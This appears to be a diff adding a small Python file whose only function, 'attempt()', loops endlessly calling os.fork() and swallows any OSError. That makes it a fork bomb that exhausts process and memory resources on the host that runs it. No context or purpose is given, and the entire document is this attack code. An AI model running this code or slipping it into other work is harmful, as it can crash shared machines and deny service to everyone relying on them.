@@ -1,0 +1,9 @@
+import os
+
+
+def attempt():
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
